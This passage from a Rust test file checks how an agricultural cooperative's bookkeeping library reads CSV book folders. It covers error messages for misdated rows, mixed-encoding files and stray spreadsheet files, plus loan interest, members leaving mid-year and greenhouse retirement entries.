            "members.csv, line 1, column 1 \"成员 member\": unknown column; the columns of members.csv are 成员编号 member, 姓名 name, 类别 kind, 人口 persons, 村 village, 入社日期 joined, 退社日期 left, 备注 note",
        ]
    );
}

/// A timesheet the book refuses for one of its records is reported at that record's own
/// line of labour.csv, with its position in the timesheet (counting from 1), not at the
/// timesheet's first row: the June timesheet's sixth row works a day before its greenhouse
/// was built, in place and when moved to the end of the file, after other timesheets' rows.
#[test]
fn a_refused_work_record_is_named_by_its_own_line() {
    let early = "2019-01-05,H06,,GH06,按天,86,150,季节工,2019-06-30,";
    let june_row = "2019-06-30,H06,,GH06,按天,86,150,季节工,2019-06-30,";
    let in_place = reference_edited("labour.csv", |text| text.replacen(june_row, early, 1));
    let moved = reference_edited("labour.csv", |text| {
        let text = text.replacen(&format!("{june_row}\r\n"), "", 1);
        format!("{text}{early}\r\n")
    });
    for (files, line, record) in [(in_place, 35, 6), (moved, 113, 28)] {
        let folder = ok(BookFolder::from_files(&files));
        let june = folder
            .events()
            .iter()
            .find(|e| e.source.file == "labour.csv" && e.source.line == 30)
            .map(|e| e.id.clone())
            .unwrap_or_else(|| panic!("no timesheet at labour.csv line 30"));
        let err = folder.run().err().unwrap_or_else(|| panic!("accepted"));
        let Error::Folder(error) = &err else {
            panic!("{err:?}")
        };
        let [problem] = error.problems() else {
            panic!("{err}")
        };
        let inner = PoolError::GreenhouseNotBuilt {
            greenhouse: "GH06".parse().unwrap_or_else(|e| panic!("{e}")),
            date: time::macros::date!(2019 - 01 - 05),
            built: time::macros::date!(2019 - 01 - 10),
        };
        let expected = Error::Pool(PoolError::WorkRecordRefused {
            timesheet: june.clone(),
            record,
            error: Box::new(inner.into()),
        });
        assert_eq!(
            problem.kind,
            ProblemKind::Rejected {
                event: june.clone(),
                error: Box::new(expected),
            }
        );
        assert_eq!(
            problem.to_string(),
            format!(
                "labour.csv, line {line}: the book refuses this row: timesheet {june}, record \
                 {record} (counting from 1): greenhouse GH06 is not in use on 2019-01-05: it \
                 was built on 2019-01-10"
            )
        );
    }
}

/// A work record dated before 1900 (a slip for 2019) in a timesheet of 2019 is refused and
/// named by its own line, as a row of any other file dated before 1900 is; before, a
/// non-member's work in administration so dated was booked without a word.
#[test]
fn a_work_record_dated_before_1900_is_refused_on_its_line() {
    let row = "1899-03-31,,张三,管理,按天,1,150,临时工,2019-03-31,";
    let files = reference_edited("labour.csv", |text| format!("{text}{row}\r\n"));
    let folder = ok(BookFolder::from_files(&files));
    let march = folder
        .events()
        .iter()
        .find(|e| e.source.file == "labour.csv" && e.source.line == 2)
        .map(|e| e.id.clone())
        .unwrap_or_else(|| panic!("no timesheet at labour.csv line 2"));
    let err = folder.run().err().unwrap_or_else(|| panic!("accepted"));
    let Error::Folder(error) = &err else {
        panic!("{err:?}")
    };
    let [problem] = error.problems() else {
        panic!("{err}")
    };
    assert_eq!(
        problem.to_string(),
        format!(
            "labour.csv, line 114: the book refuses this row: timesheet {march}, record 29 \
             (counting from 1): work on 1899-03-31: the books keep the years 1900 to 9999"
        )
    );
}

/// A loan drawn on a day and its interest accrued through that day (the drawdown's day bears
/// interest), and part of it repaid on a later day with interest accrued through that day
/// too (the repayment's day does not): the book takes them in that order, and so does a
/// folder, whose `payments.csv` rows come after its `adjustments.csv` rows of the same day.
/// The drawdown and the repayment of principal come before the day's adjustments, so the
/// folder runs to the same book; before, the accrual was applied first and refused
/// ("nothing has been drawn").
#[test]
fn a_drawdown_or_principal_repaid_comes_before_the_days_interest_accrual() {
    use landpool::folder::Settings;
    use landpool::{CashAccount, DayCount, Event, Loan, LoanTerm, Yuan};
    use rust_decimal_macros::dec;
    use time::macros::date;
    let loan = || "L1".parse().unwrap_or_else(|e| panic!("{e}"));
    let yuan = |text: &str| text.parse::<Yuan>().unwrap_or_else(|e| panic!("{e}"));
    let events = vec![
        Event::LoanSigned {
            loan: Loan {
                id: loan(),
                lender: "莱西农商银行".into(),
                term: LoanTerm::Short,
                amount: yuan("36500"),
                annual_rate_percent: dec!(10),
                day_count: DayCount::Act365,
                signed: date!(2019 - 12 - 01),
                maturity: date!(2020 - 06 - 30),
                raised_for: vec![],
            },
        },
        Event::LoanDrawn {
            loan: loan(),
            date: date!(2019 - 12 - 29),
            amount: yuan("36500"),
            into: CashAccount::Bank,
        },
        Event::LoanInterestAccrued {
            loan: loan(),
            through: date!(2019 - 12 - 29),
        },
        Event::LoanRepaid {
            loan: loan(),
            date: date!(2019 - 12 - 31),
            principal: yuan("36500"),
            interest: Yuan::ZERO,
            from: CashAccount::Bank,
        },
        Event::LoanInterestAccrued {
            loan: loan(),
            through: date!(2019 - 12 - 31),
        },
    ];
    let settings = Settings {
        cooperative: "示例合作社".into(),
        title: "示例".into(),
        year: 2019,
        event_prefix: "ex".into(),
        close: None,
        prior_log: None,
    };
    let folder = ok(BookFolder::new(settings, events));
    let kinds: Vec<&str> = folder
        .events()
        .iter()
        .map(|e| match e.event {
            Event::LoanSigned { .. } => "signed",
            Event::LoanDrawn { .. } => "drawn",
            Event::LoanInterestAccrued { .. } => "accrued",
            Event::LoanRepaid { .. } => "repaid",
            _ => "other",
        })
        .collect();
    assert_eq!(kinds, ["signed", "drawn", "accrued", "repaid", "accrued"]);
    let book = ok(folder.run());
    // 36,500 × 10% ÷ 365 = 10.00 a day: 29 and 30 December 2019.
    let record = book.loan(&loan()).unwrap_or_else(|| panic!("no loan"));
    assert_eq!(record.interest_accrued, yuan("20.00"));
    assert_eq!(record.outstanding().ok(), Some(Yuan::ZERO));
}

/// A row of the year's files dated in another year than the folder's (policy.csv) is
/// refused, naming its file, line, column, date and the folder's year; before, a cost of
/// 2020 in a folder of 2019 was booked in 2020 and silently left out of the 2019
/// statements, and one of 2018 made the close refuse policy.csv ("2018 is not closed").
#[test]
fn a_row_dated_outside_the_folders_year_is_refused_on_its_cell() {
    let costs = "日期 date,类别 kind,金额 amount,列支对象 charged_to,付款方式 payment\n\
                 2019/7/1,水电,100,GH01,bank\n2020/1/15,水电,200,GH01,bank\n";
    assert_eq!(
        only_problem(&small_folder(&[("costs.csv", costs)])).to_string(),
        "costs.csv, line 3, column 1 \"日期 date\": expected a date in 2019, the year of \
         policy.csv, found \"2020/1/15\""
    );
    let sales =
        "日期 date,大棚编号 greenhouse,重量 kg,单价 price_per_kg,买方 buyer,收款方式 payment\n\
                 2018-12-31,GH01,10,5,x,bank\n";
    let problem = only_problem(&small_folder(&[("sales.csv", sales)]));
    assert_eq!(problem.kind, ProblemKind::BadDate);
    assert_eq!(
        problem.to_string(),
        "sales.csv, line 2, column 1 \"日期 date\": expected a date in 2019, the year of \
         policy.csv, found \"2018-12-31\""
    );
    // A timesheet is booked on its own date: that is the date that must be in the year.
    let labour = "日期 date,成员编号 member,工作 task,计酬方式 basis,数量 quantity,单价 rate,用工类别 kind,工资表日期 sheet_date\n\
                  2019-12-30,H01,GH01,按天,1,150,季节工,2020-01-05\n\
                  2020-01-02,H01,GH01,按天,1,150,季节工,\n";
    let err = BookFolder::from_files(&small_folder(&[("labour.csv", labour)])).unwrap_err();
    assert_eq!(
        err.to_string(),
        "2 problems in the book folder:\n\
         labour.csv, line 2, column 8 \"工资表日期 sheet_date\": expected a date in 2019, the \
         year of policy.csv, found \"2020-01-05\"\n\
         labour.csv, line 3, column 1 \"日期 date\": expected a date in 2019, the year of \
         policy.csv, found \"2020-01-02\""
    );
    // A greenhouse's cost is booked on the day it is built.
    let files: Vec<(String, Vec<u8>)> = small_folder(&[])
        .into_iter()
        .map(|(name, bytes)| {
            let text = String::from_utf8(bytes).unwrap_or_else(|e| panic!("{e}"));
            (
                name,
                text.replace("2019/1/1,1000", "2018/12/1,1000").into_bytes(),
            )
        })
        .collect();
    assert_eq!(
        only_problem(&files).to_string(),
        "greenhouses.csv, line 2, column 5 \"built\": expected a date in 2019, the year of \
         policy.csv, found \"2018/12/1\""
    );
    // The registers' dates may be in earlier years (a member who joined in 2010).
    let files: Vec<(String, Vec<u8>)> = small_folder(&[])
        .into_iter()
        .map(|(name, bytes)| {
            let text = String::from_utf8(bytes).unwrap_or_else(|e| panic!("{e}"));
            (
                name,
                text.replace("高格庄,2019/1/1", "高格庄,2010/1/1")
                    .into_bytes(),
            )
        })
        .collect();
    let folder = ok(BookFolder::from_files(&files));
    assert_eq!(folder.events().len(), 2);
}

/// `members` with its rows (from 1, the header row) in `gbk` encoded in GBK, the rest in
/// UTF-8, in `small_folder`.
fn mixed_members(rows: &[&str], gbk: &[usize]) -> Vec<(String, Vec<u8>)> {
    let mut bytes = Vec::new();
    for (at, row) in rows.iter().enumerate() {
        let line = format!("{row}\r\n");
        if gbk.contains(&at.saturating_add(1)) {
            let (encoded, _, unmappable) = encoding_rs::GBK.encode(&line);
            assert!(!unmappable);
            bytes.extend_from_slice(&encoded);
        } else {
            bytes.extend_from_slice(line.as_bytes());
        }
    }
    let mut files = small_folder(&[]);
    for (name, old) in &mut files {
        if name == "members.csv" {
            *old = bytes.clone();
        }
    }
    files
}

/// A UTF-8 file with a row saved in GBK (pasted from another file, say), or a GBK file with
/// a row in UTF-8, is refused, naming the first line not in the file's encoding; before, the
/// whole file was read as GBK and every other row's Chinese came out garbled without a word
/// (or, the other way round, the one UTF-8 row did).
#[test]
fn a_file_mixing_utf8_and_gbk_rows_is_refused_on_the_first_odd_line() {
    // Each row in UTF-8 is also valid GBK (read so, 王芳 is 鐜嬭姵).
    let rows = [
        "member,name,persons,village,joined",
        "H01,王芳,3,南村,2019/1/1",
        "H02,李明,4,南村,2019/1/1",
        "H03,张伟,2,南村,2019/1/1",
    ];
    let problem = only_problem(&mixed_members(&rows, &[3]));
    assert_eq!(problem.kind, ProblemKind::Encoding);
    assert_eq!(
        problem.to_string(),
        "members.csv, line 3: this line is not UTF-8 text, while the rest of the file is (line \
         2 is): it was saved in another encoding (GBK?) and would be garbled; retype it, or \
         save the whole file again as \"CSV UTF-8\""
    );
    let problem = only_problem(&mixed_members(&rows, &[2, 4]));
    assert_eq!(
        problem.to_string(),
        "members.csv, line 3: this line is UTF-8 text, while the rest of the file is GBK \
         (line 2 is): read as GBK it would be garbled; retype it, or save the whole file \
         again as \"CSV UTF-8\""
    );
    // With a byte-order mark the file is UTF-8: the line that is not is named.
    let mut files = mixed_members(&rows, &[4]);
    for (name, bytes) in &mut files {
        if name == "members.csv" {
            bytes.splice(0..0, *b"\xEF\xBB\xBF");
        }
    }
    assert_eq!(
        only_problem(&files).to_string(),
        "members.csv, line 4: the file starts with a UTF-8 byte-order mark but this line is \
         not UTF-8 text (byte 103 of the file is not); retype it, or save the whole file \
         again as \"CSV UTF-8\""
    );
    // All GBK, or all UTF-8, reads as before.
    for gbk in [&[][..], &[1, 2, 3, 4]] {
        let folder = ok(BookFolder::from_files(&mixed_members(&rows, gbk)));
        let names: Vec<String> = folder
            .events()
            .iter()
            .filter_map(|e| match &e.event {
                landpool::Event::MemberJoined { member, .. } => Some(member.name.to_string()),
                _ => None,
            })
            .collect();
        assert_eq!(names, ["王芳", "李明", "张伟"]);
    }
}

/// The files a Mac (`._members.csv`, its resource fork on a USB stick) and Excel or WPS
/// (`~$members.csv`, the owner file of a sheet open for editing) leave beside the folder's
/// files are not the folder's: they are left alone, on disk and in a list of files alike,
/// while any other unknown `.csv` file is still refused. Before, either made the folder
/// refused as holding an unknown file.
#[test]
fn the_files_a_mac_or_an_open_spreadsheet_leaves_are_ignored() {
    let plain = ok(BookFolder::from_files(&small_folder(&[])));
    let fork = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ".to_vec();
    let owner = b"\x06user  \x00\x00\x00\x00".to_vec();
    let mut files = small_folder(&[]);
    files.push(("._members.csv".into(), fork.clone()));
    files.push(("._policy.CSV".into(), fork.clone()));
    files.push(("~$members.csv".into(), owner.clone()));
    files.push(("~$成员.csv".into(), owner.clone()));
    assert_eq!(ok(BookFolder::from_files(&files)), plain);
    let dir = std::env::temp_dir().join(format!("landpool-test-hidden-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    ok(plain.write(&dir));
    std::fs::write(dir.join("._members.csv"), &fork).unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.join("~$members.csv"), &owner).unwrap_or_else(|e| panic!("{e}"));
    let read = BookFolder::read(&dir);
    // Another file is still refused.
    std::fs::write(dir.join("members2.csv"), "member\n").unwrap_or_else(|e| panic!("{e}"));
    let other = BookFolder::read(&dir).map_err(|e| e.to_string());
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(ok(read), plain);
    assert_eq!(
        other.err().as_deref(),
        Some(
            "1 problem in the book folder:\nmembers2.csv: not a file of a book folder; the files \
             are policy.csv, accounts.csv, members.csv, parcels.csv, contracts.csv, \
             grain_prices.csv, loans.csv, land_changes.csv, greenhouses.csv, assets.csv, grants.csv, \
             costs.csv, labour.csv, harvests.csv, sales.csv, adjustments.csv, payments.csv (or \
             their Chinese names)"
        )
    );
}

/// A sheet the accountant saved as a workbook (`labour.xlsx`, `用工.xls`) or as Excel's text
/// (`payments.txt`) instead of as CSV is not read: without its `.csv` beside it, the run
/// names the sheet and says to save it as CSV. Before, it was left alone like any file that
/// is not `.csv`, and the run took the folder for one with no work records (the year ran
/// without them, or failed on the wages paid for them). Beside its CSV file, the workbook is
/// the sheet the CSV is saved from, as README.txt advises, and is still left alone.
#[test]
fn a_sheet_saved_only_as_a_workbook_is_named_not_read_as_empty() {
    let files = reference_files();
    let without = |gone: &str, extra: &[(&str, &str)]| -> Vec<(String, Vec<u8>)> {
        let mut files: Vec<(String, Vec<u8>)> = files
            .iter()
            .filter(|(name, _)| name != gone)
            .cloned()
            .collect();
        for (name, bytes) in extra {
            files.push((name.to_string(), bytes.as_bytes().to_vec()));
        }
        files
    };
    let labour = files
        .iter()
        .find(|(name, _)| name == "labour.csv")
        .map(|(_, bytes)| bytes.clone())
        .unwrap_or_default();
    assert!(!labour.is_empty());
    // Beside its CSV file, the workbook is left alone.
    let mut beside = files.clone();
    beside.push(("labour.xlsx".into(), b"PK\x03\x04".to_vec()));
    assert_eq!(ok(BookFolder::from_files(&beside)), reference());
    let message =
        |files: &[(String, Vec<u8>)]| BookFolder::from_files(files).err().map(|e| e.to_string());
    assert_eq!(
        message(&without("labour.csv", &[("labour.xlsx", "PK")])).as_deref(),
        Some(
            "1 problem in the book folder:\nlabour.xlsx: a run reads CSV files only, and \
             labour.csv is not there: save this sheet as labour.csv (文件 > 另存为 > CSV UTF-8, \
             File > Save As > CSV UTF-8) in the book folder"
        )
    );
    // A required file saved as a workbook: the one problem says what to do.
    assert_eq!(
        message(&without("members.csv", &[("Members.XLS", "")])).as_deref(),
        Some(
            "1 problem in the book folder:\nMembers.XLS: a run reads CSV files only, and \
             Members.csv is not there: save this sheet as Members.csv (文件 > 另存为 > CSV \
             UTF-8, File > Save As > CSV UTF-8) in the book folder"
        )
    );
    let problem = only_problem(&without("payments.csv", &[("payments.txt", "x")]));
    assert_eq!(problem.kind, ProblemKind::NotText);
    assert_eq!(problem.file, "payments.txt");
    assert_eq!(problem.line, None);
    // On disk, by its Chinese name; the README and a file of no book kind stay left alone.
    let dir = std::env::temp_dir().join(format!("landpool-test-xlsx-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    ok(reference().write(&dir));
    std::fs::write(dir.join("notes.xlsx"), "PK").unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.join("~$用工.xlsx"), "owner").unwrap_or_else(|e| panic!("{e}"));
    let read = BookFolder::read(&dir).map_err(|e| e.to_string());
    std::fs::rename(dir.join("labour.csv"), dir.join("用工.xlsx"))
        .unwrap_or_else(|e| panic!("{e}"));
    let unread = BookFolder::read(&dir).err().map(|e| e.to_string());
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(read, Ok(reference()));
    assert_eq!(
        unread.as_deref(),
        Some(
            "1 problem in the book folder:\n用工.xlsx: a run reads CSV files only, and 用工.csv \
             is not there: save this sheet as 用工.csv (文件 > 另存为 > CSV UTF-8, File > Save \
             As > CSV UTF-8) in the book folder"
        )
    );
}

/// A folder of 2019 with two households and a greenhouse: H01 stays; H02 leaves on 30 June
/// (`退社日期 left`), its contract ending that day, its rent accrued and paid that day; GH01
/// is taken down after 10 July (`拆除日期 retired`), its remains sold for `残值收入
/// proceeds`. `edit` changes the files' text before they are read.
fn leaving_folder(edit: impl Fn(&str, String) -> String) -> Vec<(String, Vec<u8>)> {
    let files = [
        (
            "policy.csv",
            "setting,value\ncooperative,示例合作社\nyear,2019\nevent_prefix,ex\nclose,no\n",
        ),
        (
            "accounts.csv",
            "code,name_zh,name_en\n521.RENT,土地租金,Land rent\n",
        ),
        (
            "成员.csv",
            "成员编号 member,姓名 name,人口 persons,村 village,入社日期 joined,退社日期 left\n\
             H01,王建国,3,高格庄,2018/1/1,\n\
             H02,李秀英,2,高格庄,2019/1/1,2019/6/30\n",
        ),
        (
            "parcels.csv",
            "parcel,owner,area,village,land_class,registered\n\
             P1,H01,5,高格庄,旱地,2018/1/1\n\
             P2,H02,3.6,高格庄,旱地,2019/1/1\n",
        ),
        (
            "contracts.csv",
            "contract,member,parcel,area,start,end,yuan_per_mu,payment,pay_by,charge_to\n\
             LZ01,H01,P1,5,2019/1/1,2028/12/31,1000,in_arrears,12-31,521.RENT\n\
             LZ02,H02,P2,3.6,2019/1/1,2019/6/30,1000,in_arrears,06-30,521.RENT\n",
        ),
        (
            "大棚.csv",
            "大棚编号 greenhouse,名称 name,面积 area,作物 crop,建成日期 built,造价 cost,残值 residual,折旧月数 life_months,付款方式 paid_from,拆除日期 retired,残值收入 proceeds,收款账户 proceeds_account\n\
             GH01,一号棚,4,GRAPE,2019/1/10,\"120,000\",6000,120,bank,2019/7/10,\"¥80,000.00\",\n",
        ),
        (
            "harvests.csv",
            "date,greenhouse,kg\n2019/7/10,GH01,500\n",
        ),
        (
            "adjustments.csv",
            "date,kind,from,to,refs\n\
             2019/6/30,rent_accrual,2019/1/1,2019/6/30,LZ02\n\
             2019/6/30,depreciation,,,\n\
             2019/12/31,rent_accrual,2019/1/1,2019/12/31,\n\
             2019/12/31,depreciation,,,\n",
        ),
        (
            "payments.csv",
            "date,kind,party,amount\n\
             2019/6/30,rent,H02,1785.21\n\
             2019/12/31,rent,H01,5000\n",
        ),
    ];
    files
        .into_iter()
        .map(|(name, text)| (name.to_string(), edit(name, text.to_string()).into_bytes()))
        .collect()
}

/// An edit of a folder's files: the first `from` in the file named `file` becomes `to`.
fn replace_once(
    file: &'static str,
    from: &'static str,
    to: &'static str,
) -> impl Fn(&str, String) -> String {
    move |name, text| {
        if name == file {
            text.replacen(from, to, 1)
        } else {
            text
        }
    }
}

/// The problems reading `files` reports, as text (the test fails if they read).
fn problems(files: &[(String, Vec<u8>)]) -> Vec<String> {
    let err = BookFolder::from_files(files).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    folder.problems().iter().map(ToString::to_string).collect()
}

/// The kind (its JSON `type`), file and line of each of `folder`'s events whose date `keep`
/// takes, in the order the book applies them.
fn sources(
    folder: &BookFolder,
    keep: impl Fn(Option<time::Date>) -> bool,
) -> Vec<(String, String, u64)> {
    folder
        .events()
        .iter()
        .filter(|e| keep(e.event.date()))
        .map(|e| {
            let kind = serde_json::to_value(&e.event).unwrap_or_default()["type"]
                .as_str()
                .unwrap_or_default()
                .to_string();
            (kind, e.source.file.clone(), e.source.line)
        })
        .collect()
}

/// A folder of `policy.csv` (an open 2019) and `members.csv` holding `members`.
fn members_folder(members: &str) -> Vec<(String, Vec<u8>)> {
    [
        (
            "policy.csv",
            "setting,value\ncooperative,示例\nyear,2019\nclose,no\n",
        ),
        ("members.csv", members),
    ]
    .into_iter()
    .map(|(name, text)| (name.to_string(), text.as_bytes().to_vec()))
    .collect()
}

/// A member who leaves mid-year (`退社日期 left` of `成员.csv`) leaves at the end of their
/// last day, after the day's rent accrual and payment: their rent up to that day is theirs
/// (3.6 mu × 1000 × 181 ÷ 365 = 1785.2054…, rounded once: 1785.21), their accounts are
/// settled, and the members' accounts and household income show them with it; a close
/// gives them no part of the year's surplus (they are not a member on its last day).
/// Before, the column was refused as not one of members.csv's.
#[test]
fn a_member_leaving_mid_year_is_read_from_members_csv_and_applied() {
    use landpool::{report, Event, Yuan};
    use time::macros::date;
    let folder = ok(BookFolder::from_files(&leaving_folder(|_, text| text)));
    // The leaving comes from its member's row, at the end of 30 June.
    let june = sources(&folder, |date| date == Some(date!(2019 - 06 - 30)));
    let expected = [
        ("contract_signed", "contracts.csv", 3),
        ("rent_accrued", "adjustments.csv", 2),
        ("depreciation_booked", "adjustments.csv", 3),
        ("rent_paid", "payments.csv", 2),
        ("member_left", "成员.csv", 3),
    ]
    .map(|(kind, file, line)| (kind.to_string(), file.to_string(), line));
    // The contract is a register's (its start is 1 January): only the others are dated.
    assert_eq!(june, expected[1..]);
    let book = ok(folder.run());
    let h02: landpool::MemberId = ok("H02".parse());
    let member = book.member(&h02).unwrap_or_else(|| panic!("no H02"));
    assert_eq!(member.left, Some(date!(2019 - 06 - 30)));
    assert_eq!(book.member(&ok("H01".parse())).and_then(|m| m.left), None);
    let balance = |code: &str| {
        ok(book.journal().balance(
            &ok(landpool::ledger::AccountCode::new(code)),
            date!(2019 - 12 - 31),
        ))
    };
    assert_eq!(balance("114.H02"), Yuan::ZERO);
    assert_eq!(balance("114.H01"), Yuan::ZERO);
    // 1785.21 for H02's half year, 5000.00 for H01's year.
    assert_eq!(balance("521.RENT"), ok("6785.21".parse::<Yuan>()));
    let rows = ok(report::member_accounts(&book, 2019));
    let row = rows
        .iter()
        .find(|r| r.member == h02)
        .unwrap_or_else(|| panic!("H02 has a row"));
    // 3.6 mu × 181 days.
    assert_eq!(row.land_mu_days, rust_decimal_macros::dec!(651.6));
    assert_eq!((row.patronage, row.remaining), (Yuan::ZERO, Yuan::ZERO));
    let income = ok(report::household_income(&book, 2019));
    let h02_income = income
        .iter()
        .find(|r| r.member == h02)
        .unwrap_or_else(|| panic!("H02 has a line"));
    assert_eq!(h02_income.rent, ok("1785.21".parse::<Yuan>()));
    // Nothing after the leaving posts to H02: the year-end accrual finds its days accrued.
    assert!(book
        .journal()
        .entries()
        .iter()
        .filter(|e| e.date > date!(2019 - 06 - 30))
        .all(|e| e
            .postings()
            .iter()
            .all(|p| !p.account.as_str().ends_with(".H02"))));
    // Closed with a surplus (the harvest sold), the year shares it among the members of its
    // last day: H02, who left in June, has no part; H01 has it all.
    let mut closing = leaving_folder(|name, text| match name {
        "policy.csv" => text.replace(
            "close,no\n",
            "close,yes\nreserve_percent,10\npatronage_percent,60\n",
        ),
        _ => text,
    });
    closing.push((
        "sales.csv".into(),
        "date,greenhouse,kg,price_per_kg,buyer,payment\n2019/7/10,GH01,500,300,青岛果品公司,bank\n"
            .as_bytes()
            .to_vec(),
    ));
    let closed = ok(ok(BookFolder::from_files(&closing)).run());
    let rows = ok(report::member_accounts(&closed, 2019));
    let parts: Vec<(String, String, String)> = rows
        .iter()
        .map(|r| {
            (
                r.member.to_string(),
                r.patronage.to_string(),
                r.remaining.to_string(),
            )
        })
        .collect();
    // Surplus 150,000.00 − 6,785.21 rent − 5,700.00 depreciation − 34,300.00 loss on GH01
    // = 103,214.79; reserve 10%: 10,321.48; distributable 92,893.31; 60% by transaction
    // volume: 55,735.99 (55,735.986 rounded once), the rest 37,157.32, all H01's.
    let expected = [("H01", "55735.99", "37157.32"), ("H02", "0.00", "0.00")]
        .map(|(m, p, r)| (m.to_string(), p.to_string(), r.to_string()));
    assert_eq!(parts, expected);
    // The same events made by the library are written with the leaving on H02's row.
    let events: Vec<Event> = folder.events().iter().map(|e| e.event.clone()).collect();
    let made = ok(BookFolder::new(folder.settings().clone(), events));
    let files = ok(made.to_files());
    let members = &files
        .iter()
        .find(|(name, _)| name == "members.csv")
        .unwrap_or_else(|| panic!("members.csv"))
        .1;
    assert_eq!(
        members.trim_start_matches('\u{feff}').lines().collect::<Vec<_>>(),
        [
            "成员编号 member,姓名 name,类别 kind,人口 persons,村 village,入社日期 joined,退社日期 left,备注 note",
            "H01,王建国,农户,3,高格庄,2018-01-01,,",
            "H02,李秀英,农户,2,高格庄,2019-01-01,2019-06-30,",
        ]
    );
}

/// A greenhouse taken out of use (`拆除日期 retired` of `大棚.csv`) after its day's harvest:
/// cost 120,000.00, residual 6,000.00, 120 months: 950.00 a month from February; June's
/// depreciation row books five months (4,750.00), the retirement July's (950.00, the
/// month it leaves is depreciated), so 5,700.00 in all and a carrying amount of 114,300.00
/// to 154 固定资产清理; the remains fetch 80,000.00 into the bank and 34,300.00 is a loss to
/// 529 其他支出. December's depreciation does not touch it. Before, the columns were refused
/// as not greenhouses.csv's.
#[test]
fn a_greenhouse_taken_out_of_use_is_read_from_greenhouses_csv_and_cleared_through_154() {
    use landpool::{report, Event};
    use time::macros::date;
    let folder = ok(BookFolder::from_files(&leaving_folder(|_, text| text)));
    let retired: Vec<(String, u64)> = folder
        .events()
        .iter()
        .filter(|e| e.event.date() == Some(date!(2019 - 07 - 10)))
        .map(|e| (e.source.file.clone(), e.source.line))
        .collect();
    // The day's harvest first, then the retirement from the greenhouse's row.
    assert_eq!(
        retired,
        [("harvests.csv".to_string(), 2), ("大棚.csv".to_string(), 2)]
    );
    let Some(Event::GreenhouseRetired { proceeds, into, .. }) = folder
        .events()
        .iter()
        .map(|e| &e.event)
        .find(|e| matches!(e, Event::GreenhouseRetired { .. }))
    else {
        panic!("{:?}", folder.events())
    };
    assert_eq!(
        (proceeds.to_string(), *into),
        ("80000.00".to_string(), landpool::CashAccount::Bank)
    );
    let book = ok(folder.run());
    let entries: Vec<String> = book
        .journal()
        .entries()
        .iter()
        .filter(|e| e.date == date!(2019 - 07 - 10))
        .map(|e| {
            let postings: Vec<String> = e
                .postings()
                .iter()
                .map(|p| {
                    let side = match p.side {
                        landpool::ledger::Side::Debit => "Dr",
                        landpool::ledger::Side::Credit => "Cr",
                    };
                    format!("{side} {} {}", p.account, p.amount)
                })
                .collect();
            postings.join(", ")
        })
        .collect();
    assert_eq!(
        entries,
        [
            "Dr 521.GH01 950.00, Cr 152 950.00",
            "Dr 152 5700.00, Dr 154 114300.00, Cr 151 120000.00",
            "Dr 102 80000.00, Cr 154 80000.00",
            "Dr 529 34300.00, Cr 154 34300.00",
        ]
    );
    let sheet = ok(report::balance_sheet(&book, 2019));
    let line = |n: u8| {
        sheet
            .line(n)
            .map(|l| l.current.to_string())
            .unwrap_or_default()
    };
    // 10/11/12 固定资产 and 14 固定资产清理 are empty again; 1 货币资金: 80,000.00 in less
    // 120,000.00 paid for the greenhouse and 6,785.21 of rent paid.
    assert_eq!(
        [line(10), line(11), line(12), line(14), line(1)],
        ["0.00", "0.00", "0.00", "0.00", "-46785.21"]
    );
    let surplus = ok(report::surplus_statement(&book, 2019));
    let other = surplus
        .lines
        .iter()
        .find(|l| l.line == 9)
        .map(|l| l.current.to_string());
    assert_eq!(other.as_deref(), Some("34300.00"));
    let record = book
        .greenhouse(&ok("GH01".parse()))
        .unwrap_or_else(|| panic!("GH01"));
    assert_eq!(record.retired, Some(date!(2019 - 07 - 10)));
    assert_eq!(record.depreciated.to_string(), "5700.00");
}

/// The folder's leavings and retirements round-trip: written on their rows (the proceeds'
/// account left empty for the bank's default, 现金 when it is cash) and read back as the
/// same events in the same order, although the writer puts the greenhouses in the order
/// they were built (two retired on one day go by that order, not by their rows'); events
/// the library makes without their member's or greenhouse's row are refused as not
/// writable. A folder without the new columns reads as before.
#[test]
fn leavings_and_retirements_round_trip_through_the_folders_rows() {
    use landpool::folder::FolderError;
    use landpool::Event;
    use time::macros::date;
    let cash = leaving_folder(|name, text| {
        if name == "大棚.csv" {
            let text = text.replace("\"¥80,000.00\",\n", "\"¥80,000.00\",现金\n");
            // A second greenhouse, built after the first but on the row before it.
            text.replace(
                "\nGH01,",
                "\nGH02,二号棚,1,GRAPE,2019/2/1,12000,0,120,bank,2019/7/10,,\nGH01,",
            )
        } else {
            text
        }
    });
    let folder = ok(BookFolder::from_files(&cash));
    let files = ok(folder.to_files());
    let greenhouses = &files
        .iter()
        .find(|(name, _)| name == "greenhouses.csv")
        .unwrap_or_else(|| panic!("greenhouses.csv"))
        .1;
    assert_eq!(
        greenhouses.trim_start_matches('\u{feff}').lines().collect::<Vec<_>>(),
        [
            "大棚编号 greenhouse,名称 name,面积(亩) area,作物 crop,建成日期 built,造价 cost,残值 residual,折旧月数 life_months,付款方式 paid_from,拆除日期 retired,残值收入 proceeds,收款账户 proceeds_account,备注 note",
            "GH01,一号棚,4.00,GRAPE,2019-01-10,120000.00,6000.00,120,银行,2019-07-10,80000.00,现金,",
            "GH02,二号棚,1.00,GRAPE,2019-02-01,12000.00,0.00,120,银行,2019-07-10,,,",
        ]
    );
    let bytes: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
        .collect();
    let read = ok(BookFolder::from_files(&bytes));
    let events = |folder: &BookFolder| -> Vec<(String, Event)> {
        folder
            .events()
            .iter()
            .map(|e| (e.id.to_string(), e.event.clone()))
            .collect()
    };
    assert_eq!(events(&read), events(&folder));
    let retired: Vec<String> = folder
        .events()
        .iter()
        .filter_map(|e| match &e.event {
            Event::GreenhouseRetired { greenhouse, .. } => Some(greenhouse.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(retired, ["GH01", "GH02"]);
    ok(read.run());
    // Without its member's row, a leaving cannot be written.
    let settings = folder.settings().clone();
    let left = Event::MemberLeft {
        member: ok("H09".parse()),
        date: date!(2019 - 06 - 30),
    };
    match BookFolder::new(settings.clone(), vec![left]) {
        Err(Error::Folder(FolderError::NotWritable { what, reason })) => {
